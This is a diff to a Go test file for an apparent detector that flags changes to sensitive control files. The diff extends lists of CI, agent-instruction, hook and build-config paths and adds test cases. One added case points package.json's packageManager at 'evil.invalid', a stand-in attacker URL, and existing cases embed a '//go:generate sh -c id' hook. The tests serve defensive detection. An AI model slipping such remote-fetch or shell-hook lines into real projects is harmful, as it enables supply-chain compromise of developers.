@@ -18,12 +18,14 @@ func TestJudge_KnowsControlFilesByTheirPath(t *testing.T) {
 			".github/workflows/ci.yml", ".GitHub/Workflows/ci.yml", ".gitlab-ci.yml", ".circleci/config.yml", "Jenkinsfile", "AGENTS.md", "agents.md", "sub/CLAUDE.md", "GEMINI.md",
 			".cursor/rules/x.mdc", ".claude/settings.json", ".mcp.json", "mcp.json", ".github/copilot-instructions.md", ".husky/pre-commit", ".githooks/pre-push",
 			".pre-commit-config.yaml", ".devcontainer/devcontainer.json", ".gitattributes", ".gitmodules", ".cargo/config.toml", ".bashrc", ".ssh/authorized_keys",
+			".hg/hgrc", "sub/.hg/hgrc", ".jj/repo/config.toml", ".svn/wc.db", ".Rprofile", ".gdbinit", ".lldbinit", ".pdbrc.py", ".irbrc", ".junie/guidelines.md", "CODEOWNERS",
+			".github/CODEOWNERS", ".github/dependabot.yml", "renovate.json5", "netlify.toml", ".readthedocs.yaml", ".ycm_extra_conf.py", "WARP.md",
 			".dir-locals.el", ".vscode./tasks.json", ".env ", ".\u017fsh/config",
 		},
-		ControlLook: {"Makefile", "sub/GNUmakefile", "conftest.py", "tests/conftest.py", "setup.py", "build.rs", "Dockerfile", "gradlew"},
+		ControlLook: {"Makefile", "sub/GNUmakefile", "conftest.py", "tests/conftest.py", "setup.py", "build.rs", "Dockerfile", "gradlew", "eslint.config.mjs", "vite.config.ts", ".eslintrc.cjs", "build.gradle.kts", "CMakeLists.txt", "flake.nix", "WORKSPACE"},
 		ControlNone: {
 			"main.go", "README.md", "src/env.go", "docs/agents.txt", "vscode/x.json", "a.vscode/x", ".github/ISSUE_TEMPLATE.md", ".gitignore", "environment.ts", "config", "HEAD",
-			"forge/config.yaml", "x.forge/a", "makefile.go", "go.mod", ".editorconfig", "src/claude.mdx", "husky/x",
+			"forge/config.yaml", "x.forge/a", "makefile.go", "go.mod", "workspace.go", "src/config.js", "renovate.go", "rules.md", "docs/codeowners.md", ".editorconfig", "src/claude.mdx", "husky/x",
 		},
 	} {
 		for _, name := range names {
@@ -49,6 +51,9 @@ func TestJudge_SeesAddedLines(t *testing.T) {
 		{"sub/package.json", "", `{"scripts":{"a":"x"}}`, ControlLook},
 		{"package.json", `{"scripts":{"a":"x"}}`, `{"scripts":{"a":"y"}}`, ControlLook},
 		{"package.json", "{", "{ ", ControlLook},
+		{"package.json", `{"packageManager":"yarn@4.1.0"}`, `{"packageManager": "yarn@https://evil.invalid/yarn.cjs"}`, ControlAsk},
+		{"package.json", `{"packageManager":"yarn@4.1.0"}`, `{"packageManager":"yarn@4.1.0","version":"2"}`, ControlNone},
+		{"go.work", "use .\n", "use .\nreplace a.org/b => ../b\n", ControlAsk},
 		{"a.go", "package a\n", "package a\n\n//go:generate sh -c id\n", ControlLook},
 		{"a.go", "//go:generate sh -c id\npackage a\n", "//go:generate sh -c id\npackage b\n", ControlNone},
 		{"a.go", "package a\n", "package a\n\n// #cgo LDFLAGS: -Wl,x\nimport \"C\"\n", ControlLook},
